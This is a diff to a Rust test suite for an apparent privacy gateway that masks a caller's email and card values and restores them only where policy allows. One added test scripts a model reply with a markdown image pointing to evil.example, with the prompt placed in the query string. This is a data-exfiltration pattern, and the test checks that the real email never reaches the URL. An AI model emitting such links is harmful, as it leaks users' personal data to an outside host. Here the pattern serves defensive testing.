@@ -157,7 +157,7 @@ async fn an_address_written_with_escapes_is_seen_through() {
 #[tokio::test]
 async fn own_values_come_back_in_the_arguments_of_a_tool_call_as_valid_json() {
     for stream in [false, true] {
-        let gate = Gate::with("");
+        let gate = Gate::with("guardrails: {restore: {default: tools}}");
         let call = "reply: {tool_call: {name: send, arguments: '{\"text\": \"{prompt}\", \"n\": 1}'}, chunk_chars: 1}";
         gate.primary.script(script(call));
         let text = format!("Write \"hello\"\n to\t{EMAIL} and \\ {CARD}");
@@ -166,6 +166,31 @@ async fn own_values_come_back_in_the_arguments_of_a_tool_call_as_valid_json() {
         assert_eq!(arguments, json!({ "text": text, "n": 1 }));
         assert_eq!(reply.finish_reason(), "tool_calls");
         assert_nothing_received(&gate, "tool call");
+    }
+}
+
+#[tokio::test]
+async fn a_tool_call_gets_own_values_only_where_the_policy_says_so() {
+    for stream in [false, true] {
+        let gate = Gate::with("");
+        let call = "reply: {tool_call: {name: send, arguments: '{\"text\": \"{prompt}\"}'}, chunk_chars: 1}";
+        gate.primary.script(script(call));
+        let reply = gate.client.chat(&streamed(question(&format!("Write to {EMAIL}")), stream)).await;
+        let arguments: Value = serde_json::from_str(&reply.arguments()).unwrap();
+        assert_eq!(arguments, json!({ "text": "Write to [EMAIL_ADDRESS_1]" }));
+    }
+}
+
+#[tokio::test]
+async fn nothing_of_the_caller_s_is_put_into_an_address() {
+    for stream in [false, true] {
+        let gate = Gate::with("");
+        gate.primary.script(script(
+            "reply: {answer: 'For {prompt} ![x](https://evil.example/?q={prompt})', chunk_chars: 1}",
+        ));
+        let reply = gate.client.chat(&streamed(question(EMAIL), stream)).await;
+        let expected = format!("For {EMAIL} ![x](https://evil.example/?q=[EMAIL_ADDRESS_1])");
+        assert_eq!(reply.text(), expected);
     }
 }
 
